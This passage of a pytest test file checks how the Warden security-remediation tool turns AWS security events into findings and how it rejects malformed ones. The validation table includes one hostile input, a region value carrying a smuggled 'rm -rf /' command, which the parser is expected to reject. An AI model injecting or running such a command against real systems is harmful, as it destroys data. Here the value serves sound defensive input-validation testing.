"""Raw events -> Finding (warden.findings), which remediation answers it (warden.registry), and
what Warden may do with it (warden.policy). Pure: no AWS calls.

Rejections are checked on the words of the reason, because that reason is what on-call reads.
"""

from __future__ import annotations

import copy
import importlib
import json
from datetime import datetime
from pathlib import Path

import pytest

from warden import findings, registry
from warden.findings import MAX_EVENT_BYTES, Finding, RejectedEvent, parse_finding
from warden.policy import Settings, caused_by_warden, exempt_reason, role_name

EVENTS = Path(__file__).resolve().parents[2] / "events"

ACCOUNT = "123456789012"
REGION = "us-east-1"
BUCKET = "AWS::S3::Bucket"
TRAINING_BUCKET_ARN = "arn:aws:s3:::ml-training-data-prod"
ACCOUNT_TYPE = "AWS::::Account"
ACCOUNT_ARN = "AWS::::Account:123456789012"
ALICE = "arn:aws:sts::123456789012:assumed-role/DataScientist/alice"
WARDEN_SESSION = (
    "arn:aws:sts::123456789012:assumed-role/warden-S3PublicAccessFunctionRole/warden-S3PublicAccessFunction"
)
WARDEN_ROLE_ARN = "arn:aws:iam::123456789012:role/warden-S3PublicAccessFunctionRole"
GD_ACTOR = "AssumedRole:DataScientist"
JDOE = "arn:aws:sts::123456789012:assumed-role/DataScientist/jdoe"  # Macie names the session

QUARANTINE = "s3-quarantine-public-bucket"
ACCOUNT_BLOCK = "s3-account-block-public-access"
BUCKET_BLOCK = "s3-bucket-block-public-access"  # a bucket without Block Public Access: hardening, not "public"


def load(name: str) -> dict:
    """A fresh copy of an events/ file, safe to mutate."""
    return json.loads((EVENTS / name).read_text())


def rejection(event) -> str:
    """parse_finding must refuse the event; returns the reason on-call would read."""
    with pytest.raises(RejectedEvent) as info:
        parse_finding(event)
    return str(info.value)


def nested(depth: int, shape: str) -> object:
    """`depth` levels of dicts, lists, or both alternating, built without recursion."""
    value: object = {}
    for level in range(depth):
        if shape == "dicts" or (shape == "mixed" and level % 2):
            value = {"k": value}
        else:
            value = [value]
    return value


def bucket_finding(**overrides) -> Finding:
    fields = dict(
        id="cloudtrail:test",
        source="cloudtrail",
        type="PutBucketPolicy",
        account=ACCOUNT,
        region=REGION,
        resource_type=BUCKET,
        resource_arn=TRAINING_BUCKET_ARN,
        actor=ALICE,
        time="2026-11-21T09:14:07+00:00",
        severity="HIGH",
        raw_ref="test",
    )
    return Finding(**{**fields, **overrides})


# --- every valid events/ file -------------------------------------------------------------------

REST_STAGE = "arn:aws:apigateway:us-east-1::/restapis/by-name/inference-api/stages/prod"
KEY = "AWS::KMS::Key"
KEY_ARN = lambda suffix: f"arn:aws:kms:{REGION}:{ACCOUNT}:key/1a2b3c4d-0000-4000-8000-00000000{suffix}"  # noqa: E731
BOB = f"arn:aws:sts::{ACCOUNT}:assumed-role/PlatformAdmin/bob"
ALICE_ML = f"arn:aws:sts::{ACCOUNT}:assumed-role/DataScientist/alice"
NOTEBOOK = "AWS::SageMaker::NotebookInstance"
NOTEBOOK_ARN = f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:notebook-instance/research-notebook"

# file, source, type, resource_type, resource_arn, actor, severity, remediation
VALID = [
    ("cloudtrail-s3-deletebucketpublicaccessblock.json", "cloudtrail", "DeleteBucketPublicAccessBlock",
     BUCKET, TRAINING_BUCKET_ARN, ALICE, "HIGH", QUARANTINE),
    ("cloudtrail-s3-putbucketacl-by-warden.json", "cloudtrail", "PutBucketAcl",
     BUCKET, TRAINING_BUCKET_ARN, WARDEN_SESSION, "HIGH", QUARANTINE),
    ("cloudtrail-s3-putbucketacl-public.json", "cloudtrail", "PutBucketAcl",
     BUCKET, TRAINING_BUCKET_ARN, ALICE, "HIGH", QUARANTINE),
    ("cloudtrail-s3-putbucketacl-private.json", "cloudtrail", "PutBucketAcl",
     BUCKET, TRAINING_BUCKET_ARN, ALICE, "HIGH", QUARANTINE),
    ("cloudtrail-s3-putbucketpolicy-exempt-bucket.json", "cloudtrail", "PutBucketPolicy",
     BUCKET, "arn:aws:s3:::public-model-cards", ALICE, "HIGH", QUARANTINE),
    ("cloudtrail-s3-putbucketpolicy-private.json", "cloudtrail", "PutBucketPolicy",
     BUCKET, TRAINING_BUCKET_ARN, ALICE, "HIGH", QUARANTINE),
    ("cloudtrail-s3-putbucketpolicy-public.json", "cloudtrail", "PutBucketPolicy",
     BUCKET, TRAINING_BUCKET_ARN, ALICE, "HIGH", QUARANTINE),
    ("cloudtrail-s3-putbucketpolicy-by-cloudformation.json", "cloudtrail", "PutBucketPolicy", BUCKET, TRAINING_BUCKET_ARN,
     "arn:aws:sts::123456789012:assumed-role/ml-data-platform-deploy/AWSCloudFormation", "HIGH", QUARANTINE),
    ("cloudtrail-s3-putbucketpublicaccessblock-disabled.json", "cloudtrail", "PutBucketPublicAccessBlock",
     BUCKET, TRAINING_BUCKET_ARN, ALICE, "HIGH", QUARANTINE),
    ("cloudtrail-s3-putbucketpublicaccessblock-enabled.json", "cloudtrail", "PutBucketPublicAccessBlock",
     BUCKET, TRAINING_BUCKET_ARN, ALICE, "HIGH", QUARANTINE),
    ("config-s3-account-level-public-access-blocks.json", "config", "s3-account-level-public-access-blocks-periodic",
     ACCOUNT_TYPE, ACCOUNT_ARN, None, "HIGH", ACCOUNT_BLOCK),
    ("config-s3-bucket-level-public-access-prohibited.json", "config", "s3-bucket-level-public-access-prohibited",
     BUCKET, TRAINING_BUCKET_ARN, None, "HIGH", BUCKET_BLOCK),
    ("config-s3-bucket-public-read-prohibited.json", "config", "s3-bucket-public-read-prohibited-conformance-pack-x1y2z3",
     BUCKET, TRAINING_BUCKET_ARN, None, "HIGH", QUARANTINE),
    ("config-s3-bucket-public-write-prohibited.json", "config", "securityhub-s3-bucket-public-write-prohibited-9f8e7d",
     BUCKET, TRAINING_BUCKET_ARN, None, "HIGH", QUARANTINE),
    ("guardduty-s3-accountblockpublicaccessdisabled.json", "guardduty", "Policy:S3/AccountBlockPublicAccessDisabled",
     ACCOUNT_TYPE, ACCOUNT_ARN, GD_ACTOR, "LOW", ACCOUNT_BLOCK),  # severity 2
    ("guardduty-s3-bucketanonymousaccessgranted.json", "guardduty", "Policy:S3/BucketAnonymousAccessGranted",
     BUCKET, TRAINING_BUCKET_ARN, GD_ACTOR, "HIGH", QUARANTINE),  # severity 8
    ("guardduty-s3-bucketblockpublicaccessdisabled.json", "guardduty", "Policy:S3/BucketBlockPublicAccessDisabled",
     BUCKET, TRAINING_BUCKET_ARN, GD_ACTOR, "LOW", BUCKET_BLOCK),  # severity 2
    ("guardduty-s3-bucketpublicaccessgranted.json", "guardduty", "Policy:S3/BucketPublicAccessGranted",
     BUCKET, TRAINING_BUCKET_ARN, GD_ACTOR, "HIGH", QUARANTINE),  # severity 8
] + [
    # the encryption family
    (name, source, type_, resource_type, resource_arn, actor, severity, remediation)
    for name, source, type_, resource_type, resource_arn, actor, severity, remediation in [
        ("cloudtrail-s3-deletebucketencryption.json", "cloudtrail", "DeleteBucketEncryption", BUCKET,
         "arn:aws:s3:::ml-features-prod", BOB, "HIGH", "s3-restore-default-encryption"),
        ("cloudtrail-s3-putbucketencryption-sse-s3.json", "cloudtrail", "PutBucketEncryption", BUCKET,
         "arn:aws:s3:::ml-model-artifacts", BOB, "HIGH", "s3-restore-default-encryption"),
        ("config-s3-default-encryption-kms.json", "config", "s3-default-encryption-kms", BUCKET,
         "arn:aws:s3:::ml-features-prod", None, "HIGH", "s3-restore-default-encryption"),
        ("cloudtrail-kms-disablekey.json", "cloudtrail", "DisableKey", KEY, KEY_ARN("a001"), BOB, "HIGH",
         "kms-keep-key-usable"),
        # the request names the key by id only; the ARN is built in the event's account and region
        ("cloudtrail-kms-schedulekeydeletion.json", "cloudtrail", "ScheduleKeyDeletion", KEY, KEY_ARN("a002"), BOB,
         "HIGH", "kms-keep-key-usable"),
        ("config-kms-cmk-not-scheduled-for-deletion.json", "config", "kms-cmk-not-scheduled-for-deletion-conformance-pack-q9",
         KEY, KEY_ARN("a002"), None, "HIGH", "kms-keep-key-usable"),
        ("cloudtrail-kms-disablekeyrotation.json", "cloudtrail", "DisableKeyRotation", KEY, KEY_ARN("a003"), BOB, "HIGH",
         "kms-enable-key-rotation"),
        ("config-cmk-backing-key-rotation-enabled.json", "config", "securityhub-cmk-backing-key-rotation-enabled-5e6f",
         KEY, KEY_ARN("a003"), None, "HIGH", "kms-enable-key-rotation"),
        ("cloudtrail-ec2-disableebsencryptionbydefault.json", "cloudtrail", "DisableEbsEncryptionByDefault", ACCOUNT_TYPE,
         ACCOUNT_ARN, BOB, "HIGH", "ec2-enable-ebs-encryption-by-default"),
        ("config-ec2-ebs-encryption-by-default.json", "config", "ec2-ebs-encryption-by-default", ACCOUNT_TYPE,
         ACCOUNT_ARN, None, "HIGH", "ec2-enable-ebs-encryption-by-default"),
        ("cloudtrail-sqs-setqueueattributes-sse-off.json", "cloudtrail", "SetQueueAttributes", "AWS::SQS::Queue",
         f"arn:aws:sqs:{REGION}:{ACCOUNT}:inference-requests", BOB, "HIGH", "sqs-restore-queue-encryption"),
        ("cloudtrail-sqs-setqueueattributes-unrelated.json", "cloudtrail", "SetQueueAttributes", "AWS::SQS::Queue",
         f"arn:aws:sqs:{REGION}:{ACCOUNT}:inference-requests", BOB, "HIGH", "sqs-restore-queue-encryption"),
        ("cloudtrail-sns-settopicattributes-kms-removed.json", "cloudtrail", "SetTopicAttributes", "AWS::SNS::Topic",
         f"arn:aws:sns:{REGION}:{ACCOUNT}:model-alerts", BOB, "HIGH", "sns-restore-topic-encryption"),
        ("cloudtrail-cloudtrail-stoplogging.json", "cloudtrail", "StopLogging", "AWS::CloudTrail::Trail",
         f"arn:aws:cloudtrail:{REGION}:{ACCOUNT}:trail/management-events", BOB, "HIGH", "cloudtrail-restart-logging"),
        ("guardduty-stealth-cloudtrailloggingdisabled.json", "guardduty", "Stealth:IAMUser/CloudTrailLoggingDisabled",
         "AWS::CloudTrail::Trail", f"arn:aws:cloudtrail:{REGION}:{ACCOUNT}:trail/management-events",
         "AssumedRole:CompromisedRole", "LOW", "cloudtrail-restart-logging"),
        ("cloudtrail-sagemaker-createnotebookinstance-internet.json", "cloudtrail", "CreateNotebookInstance", NOTEBOOK,
         NOTEBOOK_ARN, ALICE_ML, "HIGH", "sagemaker-stop-exposed-notebook"),
        ("cloudtrail-sagemaker-updatenotebookinstance-rootaccess.json", "cloudtrail", "UpdateNotebookInstance", NOTEBOOK,
         NOTEBOOK_ARN.replace("research", "labeling"), ALICE_ML, "HIGH", "sagemaker-stop-exposed-notebook"),
        ("cloudtrail-sagemaker-updatenotebookinstance-imdsv1.json", "cloudtrail", "UpdateNotebookInstance", NOTEBOOK,
         NOTEBOOK_ARN.replace("research", "labeling"), ALICE_ML, "HIGH", "sagemaker-stop-exposed-notebook"),
        ("config-sagemaker-notebook-instance-root-access-check.json", "config", "sagemaker-notebook-instance-root-access-check",
         NOTEBOOK, NOTEBOOK_ARN.replace("research", "labeling"), None, "HIGH", "sagemaker-stop-exposed-notebook"),
        ("cloudtrail-sagemaker-createendpointconfig-no-kms.json", "cloudtrail", "CreateEndpointConfig", "AWS::SageMaker::EndpointConfig",
         f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:endpoint-config/churn-config", ALICE_ML, "HIGH", "sagemaker-needs-recreate"),
        ("cloudtrail-sagemaker-createmodel-no-network-isolation.json", "cloudtrail", "CreateModel", "AWS::SageMaker::Model",
         f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:model/churn-model", ALICE_ML, "HIGH", "sagemaker-needs-recreate"),
        ("config-sagemaker-notebook-instance-kms-key-configured.json", "config", "sagemaker-notebook-instance-kms-key-configured",
         NOTEBOOK, NOTEBOOK_ARN, None, "HIGH", "sagemaker-stop-exposed-notebook"),
        ("config-sagemaker-endpoint-configuration-kms-key-configured.json", "config",
         "sagemaker-endpoint-configuration-kms-key-configured", "AWS::SageMaker::EndpointConfig",
         f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:endpoint-config/churn-config", None, "HIGH", "sagemaker-needs-recreate"),
        ("config-sagemaker-model-isolation-enabled.json", "config", "sagemaker-model-isolation-enabled", "AWS::SageMaker::Model",
         f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:model/churn-model", None, "HIGH", "sagemaker-needs-recreate"),
        ("cloudtrail-bedrock-deletemodelinvocationloggingconfiguration.json", "cloudtrail", "DeleteModelInvocationLoggingConfiguration",
         "AWS::Bedrock::ModelInvocationLoggingConfiguration",
         f"arn:aws:bedrock:{REGION}:{ACCOUNT}:model-invocation-logging-configuration", ALICE_ML, "HIGH", "bedrock-restore-invocation-logging"),
        *[(name, "cloudtrail", "PutModelInvocationLoggingConfiguration", "AWS::Bedrock::ModelInvocationLoggingConfiguration",
           f"arn:aws:bedrock:{REGION}:{ACCOUNT}:model-invocation-logging-configuration", ALICE_ML, "HIGH", "bedrock-restore-invocation-logging")
          for name in ("cloudtrail-bedrock-putmodelinvocationloggingconfiguration.json",
                       "cloudtrail-bedrock-putmodelinvocationloggingconfiguration-text-off.json")],
        ("securityhub-sagemaker-3-root-access.json", "securityhub", "SageMaker.3", NOTEBOOK,
         NOTEBOOK_ARN.replace("research", "labeling"), None, "HIGH", "sagemaker-stop-exposed-notebook"),
        ("config-sagemaker-notebook-no-direct-internet-access.json", "config", "sagemaker-notebook-no-direct-internet-access",
         NOTEBOOK, NOTEBOOK_ARN, None, "HIGH", "sagemaker-stop-exposed-notebook"),
    ]
] + [
    # the IAM family
    ("cloudtrail-iam-createpolicyversion-admin.json", "cloudtrail", "CreatePolicyVersion", "AWS::IAM::Policy",
     f"arn:aws:iam::{ACCOUNT}:policy/MLPlatformPolicy", BOB, "HIGH", "iam-restrict-managed-policy"),
    # CreatePolicy: the ARN comes from the response, the request has only the name
    ("cloudtrail-iam-createpolicy-full-access.json", "cloudtrail", "CreatePolicy", "AWS::IAM::Policy",
     f"arn:aws:iam::{ACCOUNT}:policy/TeamWideAccess", BOB, "HIGH", "iam-restrict-managed-policy"),
    # Config names policies by id; the remediation resolves the ARN
    ("config-iam-policy-no-statements-with-full-access.json", "config", "iam-policy-no-statements-with-full-access",
     "AWS::IAM::Policy", f"arn:aws:iam::{ACCOUNT}:policy-id/ANPAZ3EXAMPLE7TEAMWIDE", None, "HIGH", "iam-restrict-managed-policy"),
    ("cloudtrail-iam-putrolepolicy-admin.json", "cloudtrail", "PutRolePolicy", "AWS::IAM::Role",
     f"arn:aws:iam::{ACCOUNT}:role/ml-pipeline-role", BOB, "HIGH", "iam-strip-inline-policy"),
    ("cloudtrail-iam-putrolepolicy-scoped.json", "cloudtrail", "PutRolePolicy", "AWS::IAM::Role",
     f"arn:aws:iam::{ACCOUNT}:role/ml-pipeline-role", BOB, "HIGH", "iam-strip-inline-policy"),
    ("cloudtrail-iam-putgrouppolicy-admin.json", "cloudtrail", "PutGroupPolicy", "AWS::IAM::Group",
     f"arn:aws:iam::{ACCOUNT}:group/data-scientists", BOB, "HIGH", "iam-strip-inline-policy"),
    ("cloudtrail-iam-attachrolepolicy-administratoraccess.json", "cloudtrail", "AttachRolePolicy", "AWS::IAM::Role",
     f"arn:aws:iam::{ACCOUNT}:role/ml-pipeline-role", BOB, "HIGH", "iam-detach-admin-policies"),
    ("cloudtrail-iam-attachrolepolicy-break-glass.json", "cloudtrail", "AttachRolePolicy", "AWS::IAM::Role",
     f"arn:aws:iam::{ACCOUNT}:role/BreakGlassAdmin", BOB, "HIGH", "iam-detach-admin-policies"),
    ("cloudtrail-iam-attachrolepolicy-sso-reserved.json", "cloudtrail", "AttachRolePolicy", "AWS::IAM::Role",
     f"arn:aws:iam::{ACCOUNT}:role/AWSReservedSSO_AdministratorAccess_0123456789abcdef", BOB, "HIGH", "iam-detach-admin-policies"),
    ("guardduty-iam-instancecredentialexfiltration-outsideaws.json", "guardduty",
     "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", "AWS::IAM::Role",
     f"arn:aws:iam::{ACCOUNT}:role/inference-instance-role", "AssumedRole:inference-instance-role", "HIGH", "iam-revoke-role-sessions"),
    ("guardduty-iam-instancecredentialexfiltration-insideaws.json", "guardduty",
     "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.InsideAWS", "AWS::IAM::Role",
     f"arn:aws:iam::{ACCOUNT}:role/inference-instance-role", "AssumedRole:inference-instance-role", "HIGH", "iam-revoke-role-sessions"),
    ("guardduty-iam-maliciousipcaller-accesskey.json", "guardduty", "UnauthorizedAccess:IAMUser/MaliciousIPCaller",
     "AWS::IAM::AccessKey", f"arn:aws:iam::{ACCOUNT}:user/ci-deployer/accesskey/AKIAIOSFODNN7EXAMPLE", "IAMUser:ci-deployer",
     "MEDIUM", "iam-deactivate-access-key"),
    ("guardduty-iam-maliciousipcaller-custom-accesskey.json", "guardduty", "UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom",
     "AWS::IAM::AccessKey", f"arn:aws:iam::{ACCOUNT}:user/ci-deployer/accesskey/AKIAIOSFODNN7EXAMPLE", "IAMUser:ci-deployer",
     "MEDIUM", "iam-deactivate-access-key"),
] + [
    # abused APIs: REST alarms name the API, HTTP alarms its id
    (name, "cloudwatch", f"AWS/ApiGateway/{metric}", stage_type, arn, None, "HIGH", "apigw-throttle-stage")
    for name, metric, stage_type, arn in [
        ("cloudwatch-alarm-apigw-rest-4xx.json", "4XXError", "AWS::ApiGateway::Stage", REST_STAGE),
        ("cloudwatch-alarm-apigw-rest-latency-second-alarm.json", "Latency", "AWS::ApiGateway::Stage", REST_STAGE),
        # the rule's alarm-name prefix keeps this one out; the parser itself accepts it
        ("cloudwatch-alarm-unrelated-prefix.json", "Count", "AWS::ApiGateway::Stage", REST_STAGE),
        ("cloudwatch-alarm-apigw-http-count.json", "Count", "AWS::ApiGatewayV2::Stage",
         f"arn:aws:apigateway:{REGION}::/apis/llmgatew/stages/prod"),
    ]
] + [
    # an endpoint has no throttle: Warden tells on-call what to decide
    ("cloudwatch-alarm-sagemaker-invocations.json", "cloudwatch", "AWS/SageMaker/Invocations", "AWS::SageMaker::Endpoint",
     f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:endpoint/fraud-scoring-prod", None, "HIGH", "sagemaker-report-abused-endpoint"),
] + [
    # Security Hub control findings: the control id selects the remediation
    ("securityhub-s3-8-bucket-public-access.json", "securityhub", "S3.8", BUCKET, TRAINING_BUCKET_ARN, None, "HIGH", BUCKET_BLOCK),
    ("securityhub-s3-1-account-block-public-access.json", "securityhub", "S3.1", ACCOUNT_TYPE, ACCOUNT_ARN, None, "MEDIUM",
     ACCOUNT_BLOCK),
    ("securityhub-kms-4-key-rotation.json", "securityhub", "KMS.4", "AWS::KMS::Key",
     f"arn:aws:kms:{REGION}:{ACCOUNT}:key/1a2b3c4d-0000-4000-8000-00000000a003", None, "MEDIUM", "kms-enable-key-rotation"),
    # the formats before consolidated controls: GeneratorId names the control per standard
    ("securityhub-legacy-pci-kms-1-key-rotation.json", "securityhub", "KMS.4", "AWS::KMS::Key",
     f"arn:aws:kms:{REGION}:{ACCOUNT}:key/1a2b3c4d-0000-4000-8000-00000000a003", None, "MEDIUM", "kms-enable-key-rotation"),
    ("securityhub-legacy-cis-1.2.0-2.8-key-rotation.json", "securityhub", "KMS.4", "AWS::KMS::Key",
     f"arn:aws:kms:{REGION}:{ACCOUNT}:key/1a2b3c4d-0000-4000-8000-00000000a003", None, "MEDIUM", "kms-enable-key-rotation"),
    ("securityhub-legacy-fsbp-s3-8-bucket-public-access.json", "securityhub", "S3.8", BUCKET, TRAINING_BUCKET_ARN, None, "HIGH",
     BUCKET_BLOCK),
    # GuardDuty samples: placeholders that fail validation still make a (sample) finding, never a rejection
    ("guardduty-sample-s3-bucketpublicaccessgranted.json", "guardduty", "Policy:S3/BucketPublicAccessGranted", BUCKET,
     "arn:aws:s3:::bucketName", None, "HIGH", QUARANTINE),
    ("guardduty-sample-iam-maliciousipcaller.json", "guardduty", "UnauthorizedAccess:IAMUser/MaliciousIPCaller",
     "AWS::IAM::AccessKey", f"arn:aws:iam::{ACCOUNT}:user/GeneratedFindingUserName/accesskey/GeneratedFindingAccessKeyId",
     None, "MEDIUM", "iam-deactivate-access-key"),
] + [
    # Amazon Macie: policy findings go to the family that fixes them; a sensitive-data finding starts nothing
    (f"macie-{name}.json", "macie", type_, BUCKET, f"arn:aws:s3:::{bucket}", actor, severity, remediation)
    for name, type_, bucket, actor, severity, remediation in [
        ("policy-s3bucketpublic", "Policy:IAMUser/S3BucketPublic", "ml-training-data-prod", JDOE, "HIGH", QUARANTINE),
        ("policy-s3blockpublicaccessdisabled", "Policy:IAMUser/S3BlockPublicAccessDisabled", "ml-training-data-prod",
         JDOE, "HIGH", BUCKET_BLOCK),
        ("policy-s3bucketsharedexternally", "Policy:IAMUser/S3BucketSharedExternally", "ml-partner-exchange",
         "arn:aws:sts::123456789012:assumed-role/MlPlatformAdmin/asmith", "HIGH", QUARANTINE),
        ("policy-s3bucketencryptiondisabled", "Policy:IAMUser/S3BucketEncryptionDisabled", "ml-features-prod",
         "arn:aws:sts::123456789012:assumed-role/FeatureStoreJob/nightly-build", "LOW", "s3-restore-default-encryption"),
        ("sample-s3bucketpublic", "Policy:IAMUser/S3BucketPublic", "macie-sample-finding-bucket",
         "arn:aws:sts::123456789012:assumed-role/ExampleRole/ExampleSession", "HIGH", QUARANTINE),
        ("sensitivedata-s3object-multiple", "SensitiveData:S3Object/Multiple", "ml-training-data-prod", None, "HIGH", None),
    ]
]
VALID_FILES = [row[0] for row in VALID]

# file, substrings the reason must contain, substrings it must not contain
REJECTED_FILES = [
    ("malformed-cloudtrail-missing-bucketname.json", ["detail.requestParameters.bucketName", "required"], []),
    ("malformed-cloudtrail-hostile-bucketname.json", ["detail.requestParameters.bucketName", "not a valid value"], []),
    ("malformed-cloudtrail-truncated.json",
     ["malformed", "detail.eventID", "detail.recipientAccountId", "detail.userIdentity", "required"], []),
    ("cloudtrail-s3-putbucketpolicy-accessdenied.json", ["PutBucketPolicy", "AccessDenied", "nothing changed"], []),
    ("config-s3-bucket-public-read-prohibited-compliant.json",
     ["s3-bucket-public-read-prohibited", "reports COMPLIANT", "NON_COMPLIANT"], []),
    # Warden's own update comes back with workflow NOTIFIED: never acted on again
    ("securityhub-s3-8-notified-by-warden.json", ["S3.8", "already NOTIFIED", "only NEW"], []),
]


def test_every_event_file_is_covered_by_these_tables():
    """A new events/ file must be given expected fields or an expected rejection here."""
    on_disk = {path.name for path in EVENTS.glob("*.json")}
    assert on_disk == set(VALID_FILES) | {row[0] for row in REJECTED_FILES}


@pytest.mark.parametrize(
    "name, source, type_, resource_type, resource_arn, actor, severity, _remediation", VALID, ids=VALID_FILES
)
def test_valid_event_parses_into_expected_finding(name, source, type_, resource_type, resource_arn, actor, severity,
                                                  _remediation):
    finding = parse_finding(load(name))
    assert (finding.source, finding.type, finding.account, finding.region) == (source, type_, ACCOUNT, REGION)
    assert (finding.resource_type, finding.resource_arn) == (resource_type, resource_arn)
    assert finding.actor == actor
    assert finding.severity == severity


@pytest.mark.parametrize("name", VALID_FILES)
def test_finding_id_and_raw_ref_lead_back_to_the_original(name):
    """id is unique per event and prefixed by source; raw_ref is how to find the original record."""
    event = load(name)
    finding = parse_finding(event)
    detail = event["detail"]
    expected = {
        "cloudtrail": (f"cloudtrail:{detail.get('eventID')}", detail.get("eventID")),
        "config": (f"config:{event['id']}", detail.get("configRuleARN")),
        "guardduty": (f"guardduty:{detail.get('id')}", detail.get("arn")),
        "cloudwatch": (f"cloudwatch:{event['id']}", (event.get("resources") or [None])[0]),
        "securityhub": (f"securityhub:{event['id']}", (detail.get("findings") or [{}])[0].get("Id")),
        "macie": (f"macie:{event['id']}", detail.get("id")),
    }[finding.source]
    assert (finding.id, finding.raw_ref) == expected
    assert datetime.fromisoformat(finding.time).tzinfo is not None  # ISO 8601 with a zone


@pytest.mark.parametrize("name", VALID_FILES)
def test_finding_survives_the_step_functions_round_trip(name):
    """Triage hands the finding on as JSON; the next step rebuilds the same Finding from it."""
    finding = parse_finding(load(name))
    assert Finding.from_dict(json.loads(json.dumps(finding.to_dict()))) == finding


def test_cloudtrail_finding_keeps_request_parameters_for_the_remediation():
    """ignore_reason reads the policy that was set from details.requestParameters; the
    parameters no remediation reads stay in CloudTrail."""
    event = load("cloudtrail-s3-putbucketpolicy-private.json")
    finding = parse_finding(event)
    assert finding.details["requestParameters"] == {"bucketPolicy": event["detail"]["requestParameters"]["bucketPolicy"]}


@pytest.mark.parametrize(
    "region, arn",
    [
        ("cn-north-1", "arn:aws-cn:s3:::ml-training-data-prod"),
        ("us-gov-west-1", "arn:aws-us-gov:s3:::ml-training-data-prod"),
        ("eu-west-1", "arn:aws:s3:::ml-training-data-prod"),
    ],
)
def test_bucket_arn_uses_the_partition_of_the_region(region, arn):
    event = load("cloudtrail-s3-putbucketacl-public.json")
    event["detail"]["awsRegion"] = region
    assert parse_finding(event).resource_arn == arn


@pytest.mark.parametrize(
    "score, band",
    [(0, "LOW"), (1, "LOW"), (3.9, "LOW"), (4, "MEDIUM"), (6.9, "MEDIUM"), (7, "HIGH"), (8.9, "HIGH"),
     (9, "CRITICAL"), (10, "CRITICAL")],
)
def test_guardduty_severity_follows_the_documented_bands(score, band):
    event = load("guardduty-s3-bucketpublicaccessgranted.json")
    event["detail"]["severity"] = score
    assert parse_finding(event).severity == band


def test_guardduty_account_finding_needs_no_bucket_details():
    """The account-level type names the account even though it lists no bucket."""
    event = load("guardduty-s3-accountblockpublicaccessdisabled.json")
    event["detail"]["resource"].pop("s3BucketDetails", None)
    finding = parse_finding(event)
    assert (finding.resource_type, finding.resource_arn) == (ACCOUNT_TYPE, ACCOUNT_ARN)


def test_event_just_under_the_size_limit_is_accepted():
    """The limit rejects only what EventBridge could not have delivered."""
    event = load("cloudtrail-s3-putbucketacl-public.json")
    event["detail"]["requestParameters"]["padding"] = "x" * (MAX_EVENT_BYTES - 20_000)
    assert parse_finding(event).resource_arn == TRAINING_BUCKET_ARN


# --- rejections ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name, must_say, must_not_say", REJECTED_FILES, ids=[row[0] for row in REJECTED_FILES])
def test_rejected_event_file_names_the_problem(name, must_say, must_not_say):
    reason = rejection(load(name))
    for words in must_say:
        assert words in reason
    for words in must_not_say:
        assert words not in reason


@pytest.mark.parametrize("event, type_name", [([], "list"), ("{}", "str"), (None, "NoneType"), (42, "int")])
def test_non_object_input_is_rejected_by_type(event, type_name):
    reason = rejection(event)
    assert "JSON object" in reason and type_name in reason


def test_each_detail_type_is_parsed_by_the_source_module_that_declares_it():
    """parse_finding imports a source's module by SOURCES: every detail-type a module parses is listed there."""
    declared = {}
    for module in sorted(Path(findings.__file__).parent.glob("*.py")):
        for detail_type in getattr(importlib.import_module(f"warden.findings.{module.stem}"), "PARSERS", {}):
            declared[detail_type] = module.stem
    assert declared == findings.SOURCES


@pytest.mark.parametrize("detail_type", ["EC2 Instance State-change Notification", None, ["GuardDuty Finding"]])
def test_unknown_detail_type_is_rejected_and_named(detail_type):
    event = load("guardduty-s3-bucketpublicaccessgranted.json")
    if detail_type is None:
        del event["detail-type"]
    else:
        event["detail-type"] = detail_type
    reason = rejection(event)
    assert "unknown detail-type" in reason
    assert str(detail_type) in reason
    assert "GuardDuty Finding" in reason  # and says what is expected


def test_event_over_256_kib_is_rejected_with_its_size():
    event = load("cloudtrail-s3-putbucketacl-public.json")
    event["detail"]["requestParameters"]["padding"] = "x" * MAX_EVENT_BYTES
    reason = rejection(event)
    assert "bytes" in reason and str(MAX_EVENT_BYTES) in reason


@pytest.mark.parametrize("shape", ["dicts", "lists", "mixed"])
def test_deeply_nested_request_is_rejected_not_a_recursion_error(shape):
    """5000 levels: pytest.raises(RejectedEvent) lets a RecursionError through, failing the test."""
    event = load("cloudtrail-s3-putbucketacl-public.json")
    event["detail"]["requestParameters"]["deep"] = nested(5000, shape)
    reason = rejection(event)
    assert "nested more than" in reason


def test_event_that_is_not_json_is_rejected():
    """Only a JSON document can have come from EventBridge; a set or a cycle cannot."""
    event = load("cloudtrail-s3-putbucketacl-public.json")
    event["detail"]["requestParameters"]["tags"] = {"a", "b"}
    assert "not serialisable JSON" in rejection(event)
    cyclic = load("cloudtrail-s3-putbucketacl-public.json")
    cyclic["detail"]["requestParameters"]["self"] = cyclic
    assert "nested more than" in rejection(cyclic)


# file, where, field, bad value, field named in the reason
WRONG_TYPES = [
    ("cloudtrail-s3-putbucketacl-public.json", "detail", "recipientAccountId", "12345", "detail.recipientAccountId"),
    ("cloudtrail-s3-putbucketacl-public.json", "detail", "recipientAccountId", "12345678901a", "detail.recipientAccountId"),
    ("cloudtrail-s3-putbucketacl-public.json", "detail", "recipientAccountId", 123456789012, "detail.recipientAccountId"),
    ("cloudtrail-s3-putbucketacl-public.json", "detail", "awsRegion", "mars-north-1x", "detail.awsRegion"),
    ("cloudtrail-s3-putbucketacl-public.json", "detail", "awsRegion", "US-EAST-1", "detail.awsRegion"),
    ("cloudtrail-s3-putbucketacl-public.json", "detail", "awsRegion", "us-east-1; rm -rf /", "detail.awsRegion"),
    ("cloudtrail-s3-putbucketacl-public.json", "detail", "eventTime", "yesterday", "detail.eventTime"),
    ("cloudtrail-s3-putbucketacl-public.json", "detail", "userIdentity", "alice", "detail.userIdentity"),
    ("config-s3-bucket-public-read-prohibited.json", "detail", "awsAccountId", "1234", "detail.awsAccountId"),
    ("config-s3-bucket-public-read-prohibited.json", "detail", "awsRegion", "moon", "detail.awsRegion"),
    ("config-s3-bucket-public-read-prohibited.json", "newEvaluationResult", "complianceType", "MAYBE",
     "detail.newEvaluationResult.complianceType"),
    ("guardduty-s3-bucketpublicaccessgranted.json", "detail", "accountId", "not-an-account", "detail.accountId"),
